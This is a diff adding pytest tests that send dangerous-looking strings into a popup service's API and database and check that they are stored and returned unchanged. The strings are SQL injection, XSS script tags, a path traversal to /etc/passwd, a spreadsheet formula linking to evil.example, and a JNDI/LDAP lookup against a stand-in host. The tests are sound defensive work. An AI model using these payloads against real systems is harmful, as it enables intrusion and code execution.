@@ -522,3 +522,79 @@ def test_a_body_cut_short_is_an_error_of_the_client_only(
         connection.send(b'{"name": "Half')
         connection.close()
         assert function.healthy()
+
+
+# What looks dangerous and is only text
+
+FRAGMENTS: dict[str, str] = {
+    "SQL": "'; DROP TABLE popups; -- \\' OR ''='",
+    "a parameter": ":shop_id $1 %s {0} {shop} ?",
+    "a script": "</script><script>alert('1')</script><img src=x onerror=alert(1)>",
+    "JSON": '","status":"active","x":"\\u0000\\',
+    "line breaks": "one\r\ntwo\u2028three\u0085four\ttab",
+    "a path": "../../etc/passwd\\..\\",
+    "emoji and other planes": "👩🏽‍🚀 \U0010ffff \ufeff\u202eabc",
+    "a formula": '=HYPERLINK("http://evil.example")',
+    "blanks": "  leading and trailing  ",
+    "template code": "{{7*7}} ${jndi:ldap://evil.example} <%= 1 %>",
+}
+
+every_fragment = pytest.mark.parametrize("text", FRAGMENTS.values(), ids=FRAGMENTS)
+
+
+@every_fragment
+def test_dangerous_text_in_a_popup_comes_back_as_it_was_sent(
+    manage_popups: FunctionProcess, get_active_popups: FunctionProcess, database: Database, text: str
+) -> None:
+    own = make_shop(database)
+    merchant = Client(manage_popups, own.write_key)
+    design = {"heading": text, "subheading": text, "button_text": text}
+    targeting = {"include_pages": [text], "exclude_pages": [text], "referrers": [text], "utm": {"source": text}}
+    popup = {
+        "name": text,
+        "description": text,
+        "status": "active",
+        "trigger": {"type": "click", "selector": text},
+        "design": design,
+        "targeting": targeting,
+        "offer": {"type": "newsletter", "consent_text": text},
+        "variants": [{"id": "a", "name": text, "design": {"heading": text}, "offer": {"consent_text": text}}],
+    }
+    created = merchant.post("/popups", popup)
+    assert created.status_code == 201, created.text
+    merchant.patch(f"/popups/{created.json()['id']}", {"priority": 1})  # through the merge, too
+    read = merchant.get(f"/popups/{created.json()['id']}").json()
+    (shown,) = Client(get_active_popups).get(f"/?shop_id={own.id}").json()["popups"]
+    for answer in (read, shown):
+        assert answer["design"] | design == answer["design"]
+        assert answer["targeting"] | targeting == answer["targeting"]
+        assert (answer["trigger"]["selector"], answer["offer"]["consent_text"]) == (text, text)
+        assert answer["variants"][0]["design"] == {"heading": text}
+    assert (read["name"], read["description"], read["variants"][0]["name"]) == (text, text, text)
+    assert merchant.patch("/shop", {"name": text}).json()["name"] == text
+    assert merchant.post("/api-keys", {"rights": "read", "name": text}).json()["name"] == text
+
+
+@every_fragment
+def test_dangerous_text_in_an_event_is_stored_as_it_was_sent(
+    track_view: FunctionProcess, track_conversion: FunctionProcess, database: Database, text: str
+) -> None:
+    own_popup = make_popup(database, make_shop(database))
+    ids = {"session_id": text, "visitor_id": text}
+    seen = view(own_popup, variant_id=text, page_url=text, referrer=text, **ids)
+    said = {"name": text, "consent": True, "consent_text": text, "metadata": {text: [text]}}
+    captured = capture(own_popup, "o'brien+--@example.com", **said, **ids)
+    bought = purchase(own_popup, text, **ids)
+    used = conversion(own_popup, "discount_code_used", discount_code=text, **ids)
+    assert Client(track_view).post(json=seen).status_code == 202
+    for event in (captured, bought, used):
+        answer = Client(track_conversion).post(json=event)
+        assert answer.status_code == 201, answer.text
+    of_popup = "WHERE popup_id = :id"
+    (row,) = database(f"SELECT session_id, visitor_id, page_url, referrer FROM popup_views {of_popup}", id=own_popup)
+    assert set(row.values()) == {text}
+    rows = {row["type"]: row for row in database(f"SELECT * FROM popup_conversions {of_popup}", id=own_popup)}
+    assert rows["email_capture"]["metadata"] == {text: [text]}
+    assert (rows["purchase"]["order_id"], rows["discount_code_used"]["discount_code"]) == (text, text)
+    (subscriber,) = database(f"SELECT email, name, consent_text FROM email_subscribers {of_popup}", id=own_popup)
+    assert subscriber == {"email": "o'brien+--@example.com", "name": text, "consent_text": text}
